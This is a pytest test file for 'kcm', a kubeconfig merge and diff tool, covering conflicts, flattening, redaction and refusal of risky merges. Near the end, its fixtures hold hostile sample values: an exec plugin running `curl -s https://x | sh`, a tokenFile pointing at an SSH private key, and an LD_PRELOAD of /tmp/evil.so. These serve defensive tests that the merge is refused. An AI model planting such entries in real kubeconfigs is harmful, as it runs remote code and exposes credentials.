"""`kcm merge` and `kcm diff FILE...`: other kubeconfigs into the user's, every line of it kept."""

from __future__ import annotations

import base64
import contextlib
import json
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml
from typer.testing import CliRunner

from kcm.cli import app_for

KUBECTL = shutil.which("kubectl")
needs_kubectl = pytest.mark.skipif(KUBECTL is None, reason="kubectl is not on PATH")

MINE = """# mine: every line of this file must survive a merge
apiVersion: v1
kind: Config
clusters:
- name: prod   # production
  cluster:
    server: https://prod.example.com
contexts:
- name: prod
  context: {cluster: prod, user: me, namespace: shop}
users:
- name: me
  user: {token: my-secret-token}
current-context: prod
# end of mine
"""
KIND = """apiVersion: v1
kind: Config
clusters:
- name: kind-dev
  cluster:
    server: https://127.0.0.1:6443
    certificate-authority: certs/ca.crt
contexts:
- name: kind-dev
  context: {cluster: kind-dev, user: kind-dev}
users:
- name: kind-dev
  user:
    client-certificate: certs/client.crt
    client-key-data: S0VZ
current-context: kind-dev
"""
CLASHING = """apiVersion: v1
kind: Config
clusters:
- name: prod
  cluster: {server: 'https://elsewhere.example.com'}
users:
- name: me
  user: {token: another-token}
contexts:
- name: prod
  context: {cluster: prod, user: me}
"""


def kcm(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(app_for(list(args)), list(args))
    return result.exit_code, result.stdout, result.stderr


@pytest.fixture
def mine(tmp_path: Path) -> Path:
    path = tmp_path / "config"
    path.write_text(MINE)
    return path


@pytest.fixture
def kind(tmp_path: Path) -> Path:
    folder = tmp_path / "kind"
    (folder / "certs").mkdir(parents=True)
    (folder / "certs" / "ca.crt").write_bytes(b"CA BYTES\n")
    (folder / "certs" / "client.crt").write_bytes(b"CLIENT BYTES\n")
    path = folder / "kind.yaml"
    path.write_text(KIND)
    return path


def read(path: Path) -> dict[str, Any]:
    data: dict[str, Any] = yaml.safe_load(path.read_text())
    return data


def test_diff_lists_the_other_files_contexts_and_exits_1(mine: Path, kind: Path) -> None:
    code, out, err = kcm("diff", str(kind), "--kubeconfig", str(mine))
    assert code == 1, err
    assert out.splitlines() == [
        "+ context kind-dev (cluster kind-dev, user kind-dev)",
        "+ cluster kind-dev",
        "+ user kind-dev",
    ]
    assert mine.read_text() == MINE
    code, out, _ = kcm("diff", "--dry-run", str(kind), "--kubeconfig", str(mine), "-o", "json")
    changes = json.loads(out)
    assert code == 1
    assert [(c["kind"], c["section"], c["name"]) for c in changes] == [
        ("add", "clusters", "kind-dev"),
        ("add", "users", "kind-dev"),
        ("add", "contexts", "kind-dev"),
    ]
    assert changes[1]["after"]["user"]["client-key-data"] == "REDACTED"


def test_merge_keeps_every_line_and_resolves_paths_as_kubectl(mine: Path, kind: Path) -> None:
    code, out, err = kcm("merge", str(kind), "--kubeconfig", str(mine), "--trust")
    assert code == 0, err
    assert f"brings in: user 'kind-dev' reads client-certificate {kind.parent}/certs/client.crt" in err
    assert "3 added, 0 changed; wrote" in out
    text = mine.read_text()
    kept = [line for line in MINE.splitlines() if line in text.splitlines()]
    assert kept == MINE.splitlines()[: len(kept)] and len(kept) == len(MINE.splitlines())
    data = read(mine)
    cluster = next(c for c in data["clusters"] if c["name"] == "kind-dev")
    assert cluster["cluster"]["certificate-authority"] == str(kind.parent / "certs" / "ca.crt")
    assert data["current-context"] == "prod"
    # merging it again changes nothing, not a byte
    before = mine.stat()
    code, out, _ = kcm("merge", str(kind), "--kubeconfig", str(mine))  # nothing new: no --trust needed
    assert code == 0 and "0 added, 0 changed" in out
    assert (mine.stat().st_mtime_ns, mine.stat().st_ino) == (before.st_mtime_ns, before.st_ino)
    assert kcm("diff", str(kind), "--kubeconfig", str(mine))[0] == 0


def test_flatten_inlines_the_files_as_kubectl_config_view_flatten(mine: Path, kind: Path) -> None:
    code, _, err = kcm("merge", str(kind), "--flatten", "--kubeconfig", str(mine))
    assert code == 0, err
    data = read(mine)
    cluster = next(c for c in data["clusters"] if c["name"] == "kind-dev")["cluster"]
    user = next(u for u in data["users"] if u["name"] == "kind-dev")["user"]
    assert cluster == {
        "server": "https://127.0.0.1:6443",
        "certificate-authority-data": base64.b64encode(b"CA BYTES\n").decode(),
    }
    assert user == {
        "client-certificate-data": base64.b64encode(b"CLIENT BYTES\n").decode(),
        "client-key-data": "S0VZ",
    }


@needs_kubectl
def test_flatten_agrees_with_kubectl(tmp_path: Path, mine: Path, kind: Path) -> None:
    assert kcm("merge", str(kind), "--flatten", "--kubeconfig", str(mine))[0] == 0
    view = subprocess.run(
        [str(KUBECTL), "config", "view", "--flatten", "--kubeconfig", str(kind), "-o", "json"],
        capture_output=True,
        text=True,
        check=True,
    )
    theirs = json.loads(view.stdout)
    ours = read(mine)
    for section, key in (("clusters", "cluster"), ("users", "user")):
        expected = next(e for e in theirs[section] if e["name"] == "kind-dev")[key]
        assert next(e for e in ours[section] if e["name"] == "kind-dev")[key] == expected


def test_a_conflicting_file_is_refused_with_every_conflict_listed(mine: Path, tmp_path: Path) -> None:
    other = tmp_path / "other.yaml"
    other.write_text(CLASHING)
    code, out, err = kcm("merge", str(other), "--kubeconfig", str(mine))
    assert code == 2
    assert err.count("\n") == 1
    assert (
        "3 conflict(s)" in err and "cluster 'prod'" in err and "user 'me'" in err and "context 'prod'" in err
    )
    assert "nothing was written" in err and out == ""
    assert mine.read_text() == MINE
    assert kcm("diff", str(other), "--kubeconfig", str(mine))[0] == 2


def test_on_conflict_rename_keeps_both_and_points_the_context_at_them(mine: Path, tmp_path: Path) -> None:
    other = tmp_path / "other.yaml"
    other.write_text(CLASHING)
    code, _, err = kcm("merge", str(other), "--on-conflict", "rename", "--kubeconfig", str(mine))
    assert code == 0, err
    data = read(mine)
    assert [c["name"] for c in data["clusters"]] == ["prod", "prod-2"]
    assert [u["name"] for u in data["users"]] == ["me", "me-2"]
    contexts = {c["name"]: c["context"] for c in data["contexts"]}
    assert contexts["prod-2"] == {"cluster": "prod-2", "user": "me-2"}
    assert contexts["prod"] == {"cluster": "prod", "user": "me", "namespace": "shop"}
    assert kcm("diff", str(other), "--on-conflict", "rename", "--kubeconfig", str(mine))[0] == 0


def test_on_conflict_keep_and_theirs(mine: Path, tmp_path: Path) -> None:
    other = tmp_path / "other.yaml"
    other.write_text(CLASHING)
    code, out, _ = kcm("merge", str(other), "--on-conflict", "keep", "--kubeconfig", str(mine))
    assert code == 0 and mine.read_text() == MINE
    code, out, _ = kcm("merge", str(other), "--on-conflict", "theirs", "--kubeconfig", str(mine))
    assert code == 0
    assert "~ cluster prod: cluster.server https://prod.example.com -> https://elsewhere.example.com" in out
    assert "~ user me: user.token REDACTED -> REDACTED" in out
    data = read(mine)
    assert data["clusters"][0]["cluster"]["server"] == "https://elsewhere.example.com"
    assert "# mine: every line of this file must survive a merge" in mine.read_text()


def test_diff_text_is_the_unified_diff_of_the_file(mine: Path, kind: Path) -> None:
    code, out, _ = kcm("diff", str(kind), "--text", "--kubeconfig", str(mine))
    assert code == 1
    assert out.startswith(f"--- a{mine}\n+++ b{mine}\n")
    assert "+- name: kind-dev\n" in out


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (None, "no such file"),
        ("clusters: [\n", "line"),
        ("- just\n- a list\n", "kind.yaml"),
    ],
)
def test_a_bad_source_is_one_line_and_nothing_written(
    mine: Path, tmp_path: Path, content: str | None, message: str
) -> None:
    source = tmp_path / "kind.yaml"
    if content is not None:
        source.write_text(content)
    for verb in ("merge", "diff"):
        code, out, err = kcm(verb, str(source), "--kubeconfig", str(mine))
        assert code == 2, (verb, err)
        assert err.startswith("kcm: ") and err.count("\n") == 1 and message in err and out == ""
    assert mine.read_text() == MINE


def test_diff_of_files_takes_no_sync_options(mine: Path, kind: Path) -> None:
    code, _, err = kcm("diff", str(kind), "--all-accounts", "--kubeconfig", str(mine))
    assert code == 2 and "--all-accounts: sync options" in err


EXEC_USER = """apiVersion: v1
kind: Config
clusters:
- name: vendor
  cluster: {server: 'https://vendor.example.com'}
users:
- name: me
  user:
    exec:
      {apiVersion: client.authentication.k8s.io/v1beta1, command: sh, args: [-c, 'curl -s https://x | sh']}
- name: vendor
  user: {tokenFile: /home/you/.ssh/id_ed25519}
contexts:
- name: vendor
  context: {cluster: vendor, user: vendor}
"""


def test_a_merge_that_brings_commands_is_refused_in_scripts_and_names_each(
    mine: Path, tmp_path: Path
) -> None:
    source = tmp_path / "vendor.yaml"
    source.write_text(EXEC_USER)
    code, _, err = kcm("merge", str(source), "--kubeconfig", str(mine), "--on-conflict", "theirs")
    assert code == 2
    line = err.strip()
    assert line.startswith("kcm: the merge brings in what kubectl would run or read on every call: ")
    assert "user 'me' runs `sh -c 'curl -s https://x | sh'` instead of: " not in line  # `me` had a token
    assert "user 'me' runs `sh -c 'curl -s https://x | sh'`" in line
    assert "user 'vendor' reads tokenFile /home/you/.ssh/id_ed25519" in line
    assert line.endswith("pass --trust if you trust them; nothing was written")
    assert mine.read_text() == MINE
    code, _, err = kcm("diff", str(source), "--kubeconfig", str(mine), "--on-conflict", "theirs")
    assert code == 1 and "brings in: user 'me' runs `sh -c" in err  # diff shows it, and writes nothing
    code, _, err = kcm("merge", str(source), "--kubeconfig", str(mine), "--on-conflict", "theirs", "--trust")
    assert code == 0, err
    assert read(mine)["users"][0]["user"]["exec"]["command"] == "sh"


def test_theirs_replacing_a_users_command_is_shown_as_exactly_that(tmp_path: Path) -> None:
    target = tmp_path / "config"
    target.write_text(
        MINE.replace("user: {token: my-secret-token}", "user: {exec: {command: aws, args: [eks]}}")
    )
    source = tmp_path / "vendor.yaml"
    source.write_text(EXEC_USER)
    code, _, err = kcm("merge", str(source), "--kubeconfig", str(target), "--on-conflict", "theirs")
    assert code == 2
    assert "user 'me' runs `sh -c 'curl -s https://x | sh'` instead of: runs `aws eks`" in err


def test_merge_asks_on_a_terminal(mine: Path, tmp_path: Path) -> None:
    """On a terminal kcm lists what the merge brings in and asks; no (the default) writes nothing."""
    import os
    import pty

    source = tmp_path / "vendor.yaml"
    source.write_text(EXEC_USER)
    kcm_bin = str(Path(sys.executable).parent / "kcm")
    for answer, written in ((b"\n", False), (b"y\n", True)):
        mine.write_text(MINE)
        pid, fd = pty.fork()
        if pid == 0:
            os.execv(  # noqa: S606 (the child of a pty.fork: a shell would only be in the way)
                kcm_bin, [kcm_bin, "merge", str(source), "--kubeconfig", str(mine), "--on-conflict", "theirs"]
            )
        screen = b""
        while b"Write them?" not in screen:
            screen += os.read(fd, 1024)
        os.write(fd, answer)
        with contextlib.suppress(OSError):
            while chunk := os.read(fd, 1024):
                screen += chunk
        _, status = os.waitpid(pid, 0)
        assert b"user 'vendor' reads tokenFile /home/you/.ssh/id_ed25519" in screen
        assert (mine.read_text() != MINE) == written
        assert (os.waitstatus_to_exitcode(status) == 0) == written


@pytest.mark.parametrize(
    "entry",
    [
        "contexts:\n- name: x\n  context: hello\n",
        "clusters:\n- name: x\n  cluster: {server: [a]}\n",
        "clusters:\n- name: x\n  cluster: 5\n",
    ],
)
def test_a_malformed_entry_is_refused_in_one_line_and_nothing_written(
    entry: str, mine: Path, tmp_path: Path
) -> None:
    source = tmp_path / "bad.yaml"
    source.write_text(entry)
    code, out, err = kcm("merge", str(source), "--kubeconfig", str(mine), "--trust")
    assert code == 2 and len(err.strip().splitlines()) == 1 and err.startswith(f"kcm: {source}:")
    assert "must be" in err and out == ""
    assert mine.read_text() == MINE


def test_a_changed_exec_env_is_named_as_what_runs(tmp_path: Path) -> None:
    """Same command and args, plus LD_PRELOAD: what kubectl runs changes, and the merge says so."""
    user = "user: {exec: {command: aws, args: [eks, get-token]%s}}"
    target = tmp_path / "config"
    target.write_text(MINE.replace("user: {token: my-secret-token}", user % ""))
    source = tmp_path / "vendor.yaml"
    source.write_text(
        "users:\n- name: me\n  " + user % ", env: [{name: LD_PRELOAD, value: /tmp/evil.so}]" + "\n"
    )
    code, _, err = kcm("merge", str(source), "--kubeconfig", str(target), "--on-conflict", "theirs")
    assert code == 2
    assert (
        "user 'me' runs `aws eks get-token` with LD_PRELOAD=/tmp/evil.so instead of: runs `aws eks get-token`"
        in err
    )
    assert "evil" not in target.read_text()
